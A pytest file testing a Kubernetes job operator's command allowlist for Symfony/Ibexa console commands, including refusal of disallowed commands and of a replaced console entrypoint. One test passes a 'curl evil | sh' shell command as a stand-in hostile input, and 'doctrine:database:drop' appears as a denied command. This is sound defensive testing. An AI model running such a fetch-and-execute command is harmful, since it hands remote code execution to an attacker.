import dataclasses

import pytest

from commerce_jobs.config import ConfigError, OperatorConfig
from commerce_jobs.cronbuild import cronjob_manifest
from commerce_jobs.jobbuild import CommandNotAllowed, job_manifest
from commerce_jobs.policy import command_allowed, refusal

PLATFORM = ("silver:*", "ibexa:commerce:*", "ibexa:cron:run")
CONSOLE = ["php", "bin/console"]


@pytest.mark.parametrize(
    ("command", "allowed"),
    [
        ("silver:import", True),
        ("silver:erp:resend-orders", True),  # * spans colons
        ("ibexa:commerce:index-econtent-job", True),
        ("ibexa:cron:run", True),
        ("ibexa:cron:runner", False),  # a pattern without * is the whole name
        ("Silver:import", False),  # case-sensitive
        ("doctrine:database:drop", False),
        ("silver", False),
        ("cache:clear", False),
    ],
)
def test_patterns_match_the_whole_command_name(command: str, allowed: bool) -> None:
    assert command_allowed(command, PLATFORM) is allowed


def test_without_patterns_every_command_is_allowed() -> None:
    assert command_allowed("doctrine:database:drop", ())
    assert refusal({"command": "anything", "consoleCommand": ["sh", "-c"]}, (), CONSOLE) is None


def test_params_are_not_matched_only_the_command() -> None:
    assert refusal({"command": "silver:import", "params": ["doctrine:database:drop"]}, PLATFORM, CONSOLE) is None


def test_a_dependent_anywhere_in_the_tree_refuses_the_whole_job() -> None:
    spec = {
        "command": "silver:import",
        "dependingJobs": [
            {"name": "a", "command": "silver:index"},
            {"name": "b", "command": "silver:index", "dependingJobs": [{"name": "c", "command": "cache:clear"}]},
        ],
    }
    message = refusal(spec, PLATFORM, CONSOLE)
    assert message is not None
    assert message.startswith("spec.dependingJobs[1].dependingJobs[0].command 'cache:clear' is not allowed")


def test_replacing_the_console_is_refused_while_the_allowlist_is_on() -> None:
    spec = {"command": "silver:import", "consoleCommand": ["sh", "-c", "curl evil | sh", "--"]}
    assert "spec.consoleCommand may not be changed" in (refusal(spec, PLATFORM, CONSOLE) or "")
    assert refusal({"command": "silver:import", "consoleCommand": CONSOLE}, PLATFORM, CONSOLE) is None


CONFIG = OperatorConfig(job_defaults={"image": "shop:1"}, allowed_commands=PLATFORM)


def test_no_job_manifest_for_a_command_outside_the_allowlist() -> None:
    cjob = {
        "metadata": {"name": "drop", "namespace": "shop", "uid": "u"},
        "spec": {"command": "doctrine:database:drop"},
    }
    with pytest.raises(CommandNotAllowed, match="'doctrine:database:drop' is not allowed") as refused:
        job_manifest(cjob, 1, CONFIG)
    assert refused.value.reason == "CommandNotAllowed"
    allowed = {**cjob, "spec": {"command": "silver:import"}}
    assert job_manifest(allowed, 1, CONFIG)["spec"]["template"]["spec"]["containers"][0]["command"][2] == (
        "silver:import"
    )


def test_no_cronjob_manifest_for_a_command_outside_the_allowlist() -> None:
    cron = {"metadata": {"name": "c", "namespace": "shop", "uid": "u"},
            "spec": {"schedule": "* * * * *", "command": "cache:clear"}}  # fmt: skip
    with pytest.raises(CommandNotAllowed):
        cronjob_manifest(cron, CONFIG)
    assert cronjob_manifest(cron, dataclasses.replace(CONFIG, allowed_commands=()))["kind"] == "CronJob"


def test_the_configuration_reads_the_allowlist() -> None:
    assert OperatorConfig.from_dict({"allowedCommands": ["silver:*"]}).allowed_commands == ("silver:*",)
    assert OperatorConfig.from_dict({}).allowed_commands == ()
    assert OperatorConfig.from_dict({"allowedCommands": None}).allowed_commands == ()
    for bad in ("silver:*", [""], [1]):
        with pytest.raises(ConfigError, match="allowedCommands must be a list of glob patterns"):
            OperatorConfig.from_dict({"allowedCommands": bad})
